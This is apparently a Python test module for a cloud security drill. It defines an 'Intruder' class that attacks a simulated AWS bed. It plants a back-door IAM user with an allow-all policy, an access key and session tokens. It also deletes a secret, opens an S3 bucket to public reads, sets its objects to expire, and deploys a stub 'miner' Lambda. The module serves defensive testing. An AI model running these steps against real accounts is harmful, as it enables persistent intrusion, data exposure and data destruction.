"""The drill's attacker: what tests.beds.loops.Attacker does, and a back door of its own (a user with a key, and a session of that)."""

from __future__ import annotations

import io
import json
import time
import zipfile

from tests.beds.bed import Bed, Credentials
from tests.beds.company import Company
from tests.beds.loops import Attacker

BACK_DOOR, MINER = "svc-backup", "image-resize"
_EVERY = 5  # turns
_ALL = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
# Loop kind -> what a reader calls it.
NAMES = {
    "key": "the leaked key",
    "session": "a GetSessionToken session",
    "federation": "a GetFederationToken session",
    "role": "a session of role deploy",
    "mint": "minting further sessions",
    "backdoor": "the back-door user's key",
}


class Intruder(Attacker):
    """Kinds as of Attacker, and `backdoor:…`."""

    def __init__(self, bed: Bed, company: Company) -> None:
        super().__init__(bed, company)
        self._bed = bed
        self._door: Credentials | None = None
        self._counted = 0

    def open_back_door(self, seconds: float = 15) -> None:
        """A user with administrator rights, its key and a session of it. Raises RuntimeError when it cannot be made or never works."""
        self.attempt("plant:user", self._key, "iam", "CreateUser", UserName=BACK_DOOR)
        self.attempt(
            "plant:policy", self._key, "iam", "PutUserPolicy", UserName=BACK_DOOR, PolicyName="all", PolicyDocument=json.dumps(_ALL)
        )
        answer = self.attempt("plant:key", self._key, "iam", "CreateAccessKey", UserName=BACK_DOOR)
        if "AccessKey" not in answer:
            raise RuntimeError(f"the attacker could not open its back door: {self.codes()}")
        door = Credentials.of(answer["AccessKey"])
        deadline = time.monotonic() + seconds
        while not (session := self.attempt("plant:session", door, "sts", "GetSessionToken")):
            if time.monotonic() > deadline:
                raise RuntimeError(f"the attacker's back door never opened: {self.codes()}")
            time.sleep(0.2)  # a new key takes a moment to spread
        self._held.append(("backdoor", door))
        self._held.append(("backdoor", Credentials.of(session["Credentials"])))
        self._door = door

    def loot(self, bucket: str, secret: str, role: str) -> None:
        """What outlives its credentials: a secret and a bucket's objects on their way to deletion, the bucket opened to everybody, a function that mines."""
        code = io.BytesIO()
        with zipfile.ZipFile(code, "w") as archive:
            archive.writestr("h.py", "def h(event, context):\n    return 'mined'\n")
        everybody = {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": f"arn:aws:s3:::{bucket}/*"}
        rule = {"ID": "clean-up", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 1}}
        client = lambda service: self._bed.client(service, self._key)  # noqa: E731 - these requests are not ones of the loop
        client("secretsmanager").delete_secret(SecretId=secret, RecoveryWindowInDays=7)
        client("s3").delete_public_access_block(Bucket=bucket)
        client("s3").put_bucket_policy(Bucket=bucket, Policy=json.dumps({"Version": "2012-10-17", "Statement": [everybody]}))
        client("s3").put_bucket_lifecycle_configuration(Bucket=bucket, LifecycleConfiguration={"Rules": [rule]})
        client("lambda").create_function(
            FunctionName=MINER, Runtime="python3.12", Role=role, Handler="h.h", Code={"ZipFile": code.getvalue()}
        )

    @property
    def credentials(self) -> list[tuple[str, Credentials]]:
        """(kind, each credential that it holds), the leaked key left out."""
        return list(self._held)

    @property
    def held(self) -> int:
        """How many credentials it holds, the leaked key included."""
        return 1 + len(self._held)

    def turn(self) -> None:
        self._counted += 1
        if self._door and self._counted % _EVERY == 0:
            self._use("backdoor", self._door)
        else:
            super().turn()
